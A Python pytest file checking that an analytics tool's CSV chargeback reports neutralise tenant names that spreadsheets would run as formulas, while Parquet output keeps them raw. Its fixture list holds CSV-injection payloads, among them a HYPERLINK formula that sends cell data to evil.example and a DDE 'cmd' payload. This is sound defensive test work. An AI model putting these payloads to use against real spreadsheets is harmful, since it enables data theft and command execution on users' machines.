"""Tenant names that a spreadsheet would run as formulas are neutralised in every CSV, kept raw in Parquet."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path

import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics.csv_cells import FORMULA_STARTS, neutralise, safe_frame, safe_table
from analytics.run import analyze
from analytics.settings import AnalysisSettings
from dashboards.report import write_report
from tests.support.analytics_fleet import T0, Fleet

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"invoice")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    f = Fleet(root / "store.duckdb")
    f.node("n1")
    for i, tenant in enumerate([*FORMULAS, "plain"]):
        f.gpu(f"GPU-{i}", "n1")
        f.samples(f"GPU-{i}", count=60, activity=0.5)
        f.alloc(f"GPU-{i}", tenant, count=60, ge=1.0, pod=f"p{i}")
    f.close()
    analyze(root / "store.duckdb", AnalysisSettings(window_seconds=3600, bucket_seconds=1800,
                                                     end=T0 + timedelta(hours=1), out_dir=root / "analyze"))
    write_report(root / "store.duckdb", root / "report")
    return root


@pytest.mark.parametrize("where", ["analyze", "report"])
def test_the_focus_csv_shows_formula_tenants_as_text_and_parquet_keeps_them_raw(out: Path, where: str) -> None:
    rows = read_csv(out / where / "chargeback_focus.csv")
    accounts = {r["SubAccountId"] for r in rows}
    assert {f"'{t}" for t in FORMULAS} | {"plain"} <= accounts
    for row in rows:
        for value in row.values():
            assert not value.startswith(tuple(FORMULA_STARTS)), value
    raw = set(pl.read_parquet(out / where / "chargeback_focus.parquet")["SubAccountId"].to_list())
    assert set(FORMULAS) <= raw and not any(a.startswith("'") for a in raw if a)


def test_the_tenant_csv_shows_formula_tenants_as_text(out: Path) -> None:
    tenants = [r["tenant"] for r in read_csv(out / "report" / "tenants.csv")]
    assert sorted(tenants) == sorted([f"'{t}" for t in FORMULAS] + ["plain"])


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(tuple(FORMULA_STARTS))
    assert cell == text or cell == f"'{text}"


@given(st.lists(st.one_of(st.none(), st.text()), min_size=1, max_size=8))
def test_frames_and_arrow_tables_neutralise_like_one_cell(values: list[str | None]) -> None:
    expected = [None if v is None else neutralise(v) for v in values]
    numbers = [-1.5] * len(values)  # negative numbers are numbers, not text: untouched
    frame = safe_frame(pl.DataFrame({"t": values, "n": numbers}, schema={"t": pl.String, "n": pl.Float64}))
    table = safe_table(pa.table({"t": pa.array(values, pa.string()), "n": numbers}))
    assert frame["t"].to_list() == expected and table.column("t").to_pylist() == expected
    assert frame["n"].to_list() == numbers and table.column("n").to_pylist() == numbers
